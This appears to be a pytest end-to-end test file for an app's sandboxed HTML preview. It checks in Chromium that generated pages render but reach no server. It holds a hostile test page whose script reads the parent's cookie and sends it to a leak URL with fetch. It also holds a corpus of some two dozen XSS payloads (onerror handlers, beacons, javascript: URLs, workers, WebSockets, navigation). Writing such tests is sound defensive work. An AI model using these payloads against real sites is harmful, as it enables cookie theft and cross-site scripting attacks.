"""The preview's walls, in a real browser: a hostile generated page inside our sandboxed srcdoc iframe
must render, yet reach no server, run no script and read nothing of the page around it.

Chromium comes from Debian (`apt-get install chromium`), driven by Playwright's Python API; never
`playwright install` (it downloads a browser and fails offline).
"""

from __future__ import annotations

import html
import os
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from babl_core.settings import REPO_ROOT
from babl_core.web import page_policy
from babl_core.web.render import SANDBOX, preview_document, sandbox_for
from tests.servers import chainlit_server, chromium, require_playwright

pytestmark = pytest.mark.e2e

OUTPUT_DIR = REPO_ROOT / "test-output"


class RecordingServer:
    """A server on 127.0.0.1 that serves one page at `/` (setting a cookie) and records every path
    requested: anything but `/` is a leak."""

    def __init__(self) -> None:
        self.page = ""
        self.policy = ""  # the Content-Security-Policy header of `/`: the app page's, as Babl sends it
        self.requests: list[str] = []
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                owner.requests.append(self.path)
                if self.path == "/":
                    body = owner.page.encode("utf-8")
                    self.send_response(200)
                    self.send_header("Content-Type", "text/html; charset=utf-8")
                    self.send_header("Set-Cookie", "babl_secret=s3cret; Path=/")
                    if owner.policy:
                        self.send_header("Content-Security-Policy", owner.policy)
                else:
                    body = b"/* leaked */"
                    self.send_response(200)
                    self.send_header("Content-Type", "text/plain")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _record

            def log_message(self, *args) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/"

    def leaks(self) -> list[str]:
        return [path for path in self.requests if path != "/"]


def hostile_page(port: int) -> str:
    """A generated page that tries every way out we know of."""
    base = f"http://127.0.0.1:{port}"
    return f"""<!DOCTYPE html>
<html lang="en">
<head>
<title>Hostile page</title>
<meta http-equiv="refresh" content="0;url={base}/leak-refresh">
<base href="{base}/based/">
<link rel="stylesheet" href="{base}/leak-stylesheet">
<link rel="preconnect" href="{base}/leak-preconnect">
<style>
  @import url("{base}/leak-import");
  @font-face {{ font-family: leak; src: url("{base}/leak-font"); }}
  body {{ font-family: leak, sans-serif; background: #eef url("{base}/leak-background"); }}
  h1 {{ color: #1a5; }}
</style>
</head>
<body>
<h1 id="headline">Hostile page rendered</h1>
<p id="status">untouched</p>
<p id="handler">untouched</p>
<img src="{base}/leak-img" alt="remote image">
<img src="leak-relative" alt="relative image">
<img src="data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==" alt="inline image">
<img src="x" onerror="document.getElementById('handler').textContent = 'handler ran'">
<iframe src="{base}/leak-frame"></iframe>
<object data="{base}/leak-object"></object>
<video src="{base}/leak-video" autoplay muted></video>
<form id="form" action="{base}/leak-form" method="post"><input name="q" value="1"></form>
<script>
  document.title = "script ran";
  document.getElementById("headline").textContent = "script ran";
  var cookie;
  try {{ cookie = parent.document.cookie; }} catch (error) {{ cookie = "blocked: " + error.name; }}
  document.getElementById("status").textContent = "cookie " + cookie;
  fetch("{base}/leak-fetch?c=" + encodeURIComponent(cookie)).catch(function () {{}});
  new Image().src = "{base}/leak-beacon";
  try {{ document.getElementById("form").submit(); }} catch (error) {{}}
</script>
</body>
</html>"""


def embedding_page(srcdoc: str, sandbox: str) -> str:
    """The app's side, reduced to what matters: a page holding the sandboxed srcdoc iframe."""
    return (
        "<!DOCTYPE html><html><head><title>host page</title><link rel='icon' href='data:,'></head><body>"
        f'<iframe id="preview" sandbox="{html.escape(sandbox)}" srcdoc="{html.escape(srcdoc)}" '
        'style="width:900px;height:600px;border:1px solid #888"></iframe>'
        "</body></html>"
    )


@pytest.fixture(scope="module")
def server():
    recording = RecordingServer()
    recording.thread.start()
    yield recording
    recording.httpd.shutdown()
    recording.httpd.server_close()


@pytest.fixture(scope="module")
def browser():
    require_playwright()
    with chromium() as browser:
        yield browser


def load(browser, server, page_html: str, *, policy: str = ""):
    """Opens `page_html` served at `/` (with `policy` as its Content-Security-Policy header), waits
    for the frame and anything it may try later, and returns (page, leaked paths, console messages)."""
    server.page = page_html
    server.policy = policy
    server.requests.clear()
    context = browser.new_context()
    page = context.new_page()
    console: list[str] = []
    page.on("console", lambda message: console.append(message.text))
    page.goto(server.url, wait_until="load")
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    try:
        page.wait_for_load_state("networkidle", timeout=15000)
    except PlaywrightTimeout:
        pass  # a frame that navigates itself may keep the network busy; the callers' checks decide
    page.wait_for_timeout(1500)  # a refresh, a form or a late fetch would have arrived by now
    return context, page, server.leaks(), console


def test_hostile_page_renders_but_reaches_nothing(browser, server):
    # Under the app page's own policy, which a srcdoc frame inherits on top of the preview's.
    document = preview_document(hostile_page(server.port))
    policy = page_policy.policy(preview_scripts=False)
    context, page, leaks, console = load(browser, server, embedding_page(document, SANDBOX), policy=policy)
    try:
        frame = page.frame_locator("#preview")
        headline = frame.locator("h1#headline")
        headline.wait_for(state="visible", timeout=5000)
        assert headline.inner_text() == "Hostile page rendered"  # no script changed it
        assert (
            headline.evaluate("h => getComputedStyle(h).color") == "rgb(17, 170, 85)"
        )  # its <style> applies
        assert frame.locator("#status").inner_text() == "untouched"
        assert frame.locator("#handler").inner_text() == "untouched"  # no inline handler either
        assert page.title() == "host page"
        # The frame kept its srcdoc: no refresh or form navigated it away.
        assert page.frames[1].url == "about:srcdoc"
        # data: images are allowed: the page may inline its pictures.
        inline_image = frame.locator("img[alt='inline image']")
        assert inline_image.evaluate("img => img.decode().then(() => img.naturalWidth)") == 1
        assert page.locator("#preview").get_attribute("sandbox") == ""
        assert leaks == [], f"the preview reached the server: {leaks}"
        assert server.requests == ["/"]
        assert any("Content Security Policy" in text for text in console), console
        OUTPUT_DIR.mkdir(exist_ok=True)
        page.screenshot(path=str(OUTPUT_DIR / "preview.png"))
    finally:
        context.close()


def test_with_scripts_on_scripts_run_but_still_reach_nothing(browser, server):
    """Proves the checks above can fail (the same page with scripts allowed does run its script),
    and that the CSP still stops every request and the opaque origin still hides the cookie."""
    document = preview_document(hostile_page(server.port), allow_scripts=True)
    policy = page_policy.policy(preview_scripts=True)  # BABL_PREVIEW_SCRIPTS=1's app page
    context, page, leaks, _ = load(
        browser, server, embedding_page(document, sandbox_for(True)), policy=policy
    )
    try:
        frame = page.frame_locator("#preview")
        frame.locator("h1#headline").wait_for(state="visible", timeout=5000)
        assert frame.locator("h1#headline").inner_text() == "script ran"
        assert frame.locator("h1#headline").evaluate("h => getComputedStyle(h).color") == "rgb(17, 170, 85)"
        status = frame.locator("#status").inner_text()
        assert status.startswith("cookie blocked: SecurityError"), status
        assert frame.locator("#handler").inner_text() == "handler ran"
        assert page.title() == "host page"
        assert leaks == [], f"the preview reached the server: {leaks}"
    finally:
        context.close()


def test_control_without_our_document_the_sandbox_alone_leaks(browser, server):
    """Control: the raw hostile page in the same sandbox does reach the server (images, styles,
    refresh), so the test above would notice a preview_document that stopped doing its job."""
    context, _page, leaks, _ = load(browser, server, embedding_page(hostile_page(server.port), SANDBOX))
    try:
        assert "/leak-img" in leaks
        assert "/leak-stylesheet" in leaks
    finally:
        context.close()


# Ways out of a preview, one per frame ({leak}: the recording server's URL, {port}: its port). A frame
# navigating itself is left out: scripts on, nothing stops it (see the test after this one).
XSS_VECTORS = [
    """<img src=x onerror="fetch('{leak}img-onerror')">""",
    """<svg onload="new Image().src='{leak}svg-onload'"></svg>""",
    """<body onload="navigator.sendBeacon('{leak}beacon')">""",
    """<iframe srcdoc="<img src={leak}nested-srcdoc>"></iframe>""",
    """<iframe src="javascript:fetch('{leak}javascript-url')"></iframe>""",
    """<img srcset="{leak}srcset 1x">""",
    """<picture><source srcset="{leak}picture"><img alt=p></picture>""",
    """<video poster="{leak}poster"></video>""",
    """<input type=image src="{leak}input-image">""",
    """<embed src="{leak}embed">""",
    """<object data="{leak}object"></object>""",
    """<link rel=prefetch href="{leak}prefetch"><link rel=icon href="{leak}icon">""",
    """<style>@import "{leak}import";</style>""",
    """<div style="background-image:url({leak}inline-style)">x</div>""",
    """<svg><image href="{leak}svg-image"/></svg>""",
    """<math><mtext><img src="{leak}math"></mtext></math>""",
    """<meta http-equiv=refresh content="0;url={leak}refresh">""",
    """<form action="{leak}form"><button id=b>go</button></form><script>b.click()</script>""",
    """<script>top.location = "{leak}top-navigation"</script>""",
    """<script>window.open("{leak}popup")</script>""",
    """<script>try {{ parent.document.title = "owned" }} catch (e) {{}}</script>""",
    """<script>new Worker("data:text/javascript,fetch('{leak}worker')")</script>""",
    """<script>new WebSocket("ws://127.0.0.1:{port}/websocket")</script>""",
    """<script>import("{leak}dynamic-import")</script>""",
    """<script>document.write("<img src={leak}document-write>")</script>""",
    """<script>new EventSource("{leak}event-source")</script>""",
]


@pytest.mark.parametrize("scripts", [False, True], ids=["scripts-off", "BABL_PREVIEW_SCRIPTS=1"])
def test_xss_corpus_reaches_nothing_under_the_app_page_policy(browser, server, scripts):
    frames = "".join(
        f'<iframe sandbox="{html.escape(sandbox_for(scripts))}" '
        f'srcdoc="{html.escape(preview_document(vector.format(leak=server.url, port=server.port), allow_scripts=scripts))}">'
        "</iframe>"
        for vector in XSS_VECTORS
    )
    host = f"<!DOCTYPE html><html><head><title>host page</title><link rel='icon' href='data:,'></head><body>{frames}</body></html>"
    context, page, leaks, _ = load(browser, server, host, policy=page_policy.policy(preview_scripts=scripts))
    try:
        assert leaks == [], f"a preview reached the server: {leaks}"
        assert page.title() == "host page" and page.url == server.url
        assert len(context.pages) == 1  # no popup
    finally:
        context.close()


def test_with_scripts_on_a_preview_can_navigate_its_own_frame(browser, server):
    """What README says of BABL_PREVIEW_SCRIPTS=1: a preview's script can still send its frame to
    another address (no sandbox flag or policy forbids a frame navigating itself); without scripts it
    cannot. The app page and other previews stay as they were."""
    page_html = f'<h1>page</h1><script>location.href = "{server.url}self-navigation?text=" + document.querySelector("h1").textContent</script>'
    for scripts, expected in ((False, []), (True, ["/self-navigation?text=page"])):
        document = preview_document(page_html, allow_scripts=scripts)
        policy = page_policy.policy(preview_scripts=scripts)
        context, page, leaks, _ = load(
            browser, server, embedding_page(document, sandbox_for(scripts)), policy=policy
        )
        try:
            for _ in range(100):  # a busy machine may run the frame's script after load()'s wait
                if len(leaks) >= len(expected):
                    break
                page.wait_for_timeout(100)
                leaks = server.leaks()
            assert leaks == expected
            assert page.title() == "host page"
        finally:
            context.close()


# --- the real custom element in Chainlit ------------------------------------------------------


@pytest.fixture(scope="module")
def chainlit_app(server, tmp_path_factory):
    """`chainlit run tests/assets/preview_app.py` from the repo root, so the project's
    public/elements/HtmlPreview.jsx and .chainlit/config.toml are the ones served."""
    require_playwright()
    log_path = tmp_path_factory.mktemp("chainlit") / "chainlit.log"
    env = {
        **os.environ,
        "PYTHONPATH": str(REPO_ROOT),
        "BABL_TEST_LEAK_URL": server.url,
        "HF_HUB_OFFLINE": "1",
    }
    with chainlit_server("tests/assets/preview_app.py", env=env, log_path=log_path) as url:
        yield url


@pytest.mark.slow
def test_html_preview_element_in_chainlit(browser, server, chainlit_app):
    """public/elements/HtmlPreview.jsx as Chainlit 2.12 runs it: the sandboxed frame renders and
    follows the element's update, UI state survives the update, the download is a non-HTML file
    with the page in it, a tampered sandbox is refused, and nothing reaches the leak server."""
    from playwright.sync_api import expect

    server.requests.clear()
    context = browser.new_context(accept_downloads=True, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    try:
        response = page.goto(chainlit_app)
        assert "img-src 'self' data: blob:" in response.headers.get("content-security-policy", "")
        preview = page.get_by_test_id("html-preview")
        expect(preview).to_have_count(1, timeout=30000)
        frame = preview.frame_locator("iframe")
        expect(frame.locator("h1#headline")).to_have_text("Hostile page rendered", timeout=10000)
        expect(frame.locator("body")).to_have_css("background-color", "rgb(238, 238, 255)")  # styles apply
        expect(frame.locator("#last")).to_have_count(0)  # the streamed part only
        expect(preview).to_contain_text("streaming")
        download_button = preview.get_by_role("button", name="Download .html")
        expect(download_button).to_be_disabled()
        assert preview.locator("iframe").get_attribute("sandbox") == ""

        # The generated HTML is shown as code in the chat, never rendered on the app's page.
        assert page.locator("h1#headline").count() == 0
        expect(page.locator(".message-content pre").first).to_contain_text('<h1 id="headline">')

        # A sandbox with allow-same-origin is refused: a warning, no frame.
        refused = page.get_by_test_id("html-preview-refused")
        expect(refused).to_contain_text("allow-same-origin")
        assert page.locator("iframe").count() == 1

        # Full screen, then the final update: the state survives the remount.
        preview.get_by_role("button", name="Full screen").click()
        expect(preview).to_have_css("position", "fixed")
        page.locator("#chat-input").fill("done")
        page.locator("#chat-input").press("Enter")
        expect(frame.locator("#last")).to_have_text("The last part", timeout=15000)
        expect(preview).not_to_contain_text("streaming")
        expect(preview).to_have_css("position", "fixed")
        page.keyboard.press("Escape")
        expect(preview).not_to_have_css("position", "fixed")

        expect(download_button).to_be_enabled()
        with page.expect_download() as download_info:
            download_button.click()
        download = download_info.value
        assert download.suggested_filename == "hostile-page.html"
        saved = Path(download.path()).read_text(encoding="utf-8")
        assert saved.startswith("<!DOCTYPE html>") and '<p id="last">The last part</p>' in saved
        assert "Content-Security-Policy" not in saved  # the page as generated, not the srcdoc
        blob_type = page.evaluate(
            "() => new Promise(done => { const before = URL.createObjectURL;"
            " URL.createObjectURL = blob => { URL.createObjectURL = before; done(blob.type);"
            " return before(blob); }; document.querySelector('[data-testid=html-preview] button:last-child').click(); })"
        )
        assert blob_type == "application/octet-stream"

        expect(frame.locator("h1#headline")).to_have_text("Hostile page rendered")
        page.wait_for_timeout(1000)
        OUTPUT_DIR.mkdir(exist_ok=True)
        page.screenshot(path=str(OUTPUT_DIR / "preview-chainlit.png"))
        assert server.leaks() == [], f"the preview reached the server: {server.leaks()}"
        assert server.requests == []
    finally:
        context.close()


@pytest.mark.slow
def test_with_preview_scripts_on_the_element_runs_the_pages_script_under_the_app_policy(
    browser, server, tmp_path_factory
):
    """BABL_PREVIEW_SCRIPTS=1 in Chainlit: the app page's policy then allows inline scripts, so the
    preview's script runs (react-runner still draws the element), and still nothing is fetched."""
    from playwright.sync_api import expect

    log_path = tmp_path_factory.mktemp("chainlit-scripts") / "chainlit.log"
    env = {**os.environ, "PYTHONPATH": str(REPO_ROOT), "BABL_TEST_LEAK_URL": server.url, "HF_HUB_OFFLINE": "1",
           "BABL_PREVIEW_SCRIPTS": "1"}  # fmt: skip
    with chainlit_server("tests/assets/preview_app.py", env=env, log_path=log_path) as url:
        server.requests.clear()
        context = browser.new_context()
        page = context.new_page()
        try:
            response = page.goto(url)
            assert (
                "script-src 'self' 'unsafe-eval' 'unsafe-inline'"
                in response.headers["content-security-policy"]
            )
            preview = page.get_by_test_id("html-preview")
            expect(preview).to_have_count(1, timeout=30000)
            assert preview.locator("iframe").get_attribute("sandbox") == "allow-scripts"
            frame = preview.frame_locator("iframe")
            expect(frame.locator("h1#headline")).to_have_text("script ran", timeout=10000)
            page.wait_for_timeout(1000)
            assert server.requests == [], f"the preview reached the server: {server.requests}"
        finally:
            context.close()
